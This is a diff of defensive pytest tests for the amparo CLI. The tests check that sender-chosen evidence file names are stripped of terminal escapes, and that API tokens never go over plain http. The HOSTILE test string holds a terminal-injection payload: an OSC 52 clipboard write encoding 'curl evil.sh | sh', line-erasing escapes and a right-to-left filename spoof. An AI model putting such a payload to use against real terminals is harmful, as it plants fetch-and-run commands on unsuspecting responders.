@@ -6,15 +6,18 @@ from __future__ import annotations
 import asyncio
 import hashlib
 import json
+import re
 import stat
 import uuid
 from pathlib import Path
 
+import httpx
 import pytest
 from sqlalchemy import select
 from typer.testing import CliRunner, Result
 
 from amparo.cli import app
+from amparo.reports import show
 from core import reports
 from core.db import transaction
 from core.messages import InboundAttachment
@@ -83,6 +86,54 @@ async def test_a_report_opens_on_a_workstation_with_its_evidence(
     assert "--evidence" in text.stdout
 
 
+# Abuse case 13: what the defender's phone names a file (a Telegram document's file_name is
+# whatever the sender set) reaches the responder's terminal. OSC 52 writes the clipboard; CSI
+# 1A + 2K erases the line above; U+009B is the 8-bit CSI; U+202E reverses what follows.
+HOSTILE = "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[1A\x1b[2K\u009b2K\u202egpj.exe\x7f"
+ACTS_ON = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
+
+
+async def test_what_the_phone_sent_reaches_the_terminal_without_escapes(
+    desk: Desk, site: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(reports, "file_name", lambda name: name)  # sealed as sent (older)
+    report_id = await file_report(desk, desk.a, jpeg_with_gps(), HOSTILE)
+    text = await cli([str(report_id)], site, desk.a.token)
+    assert text.exit_code == 0, text.output
+    assert not ACTS_ON.findall(text.stdout), repr(text.stdout)
+    assert "x]52;c;" in text.stdout  # shown, its escapes dropped (core.text.file_name)
+    as_json = await cli([str(report_id), "--json"], site, desk.a.token)
+    assert not ACTS_ON.findall(as_json.stdout), repr(as_json.stdout)
+    [found] = json.loads(as_json.stdout.strip().splitlines()[-1])["evidence"]
+    assert found["filename"] == HOSTILE  # the same JSON once parsed
+
+
+def test_every_field_shown_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
+    data = {
+        "report": "5b0f3c1e-0000-4000-8000-000000000001",
+        "body": {
+            "format": "amparo-report-1",
+            "parts": [{"te\x1bxt": "a\u009b2Kb"}],
+            "note\x9b": "caf\u0085\u00e9 \u0645\u0631\u062d\u0628\u0627",
+        },
+        "evidence": [
+            {
+                "id": "e1",
+                "filename": HOSTILE,
+                "content_type": "image/jpeg\x1b[8m",  # the sender's mime_type, unchecked
+                "size": 3,
+                "sha256": "ab" * 32,
+                "saved_as": None,
+            }
+        ],
+    }
+    show(data, saving=False)
+    out = capsys.readouterr().out
+    assert not ACTS_ON.findall(out), repr(out)
+    assert "image/jpeg\\u001b[8m" in out
+    assert "caf\\u0085\u00e9 \u0645\u0631\u062d\u0628\u0627" in out  # letters stay letters
+
+
 async def test_an_evidence_file_moved_from_another_report_is_refused(
     desk: Desk, site: str, tmp_path: Path
 ) -> None:
@@ -127,3 +178,39 @@ async def test_it_refuses_clearly_and_never_prints_a_traceback(desk: Desk, site:
         assert "Traceback" not in result.output and "Two men" not in result.output
     spanish = await cli([str(report_id)], site, desk.a.token, "no es", lang="es_ES.UTF-8")
     assert "frase de contraseña incorrecta" in spanish.stderr.lower(), spanish.stderr
+
+
+def test_the_token_never_goes_to_a_plain_http_desk_elsewhere(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """`AMPARO_DESK_URL=http://desk.example.org` sent the API token (reports:read) in clear
+    across the network. Only https://, or http:// to this machine's loopback."""
+    seen: list[str] = []
+
+    def desk(request: httpx.Request) -> httpx.Response:
+        seen.append(
+            f"{request.url.scheme}://{request.url.host} {request.headers['authorization']}"
+        )
+        return httpx.Response(401)
+
+    real = httpx.Client
+    monkeypatch.setattr(
+        "amparo.reports.httpx.Client",
+        lambda **kw: real(transport=httpx.MockTransport(desk), **kw),
+    )
+    runner, report_id = CliRunner(), str(uuid.uuid4())
+
+    def run(url: str) -> Result:
+        env = {"AMPARO_DESK_URL": url, "AMPARO_API_TOKEN": "amp_CANARY", "LC_ALL": "C"}
+        return runner.invoke(app, ["reports", "open", report_id], env=env)
+
+    for url in ("http://desk.example.org", "http://10.0.0.5:8000", "desk.example.org", "ftp://x"):
+        refused = run(url)
+        assert refused.exit_code == 2, refused.output
+        assert "must start with https://" in refused.stderr
+        assert "Traceback" not in refused.output
+    assert seen == []
+    allowed = ("https://desk.example.org", "http://127.0.0.1:8000", "http://[::1]:8000")
+    for url in (*allowed, "http://localhost:8000"):
+        assert "the desk refused the API token" in run(url).stderr, url
+    assert len(seen) == 4 and all(s.endswith(" Bearer amp_CANARY") for s in seen), seen
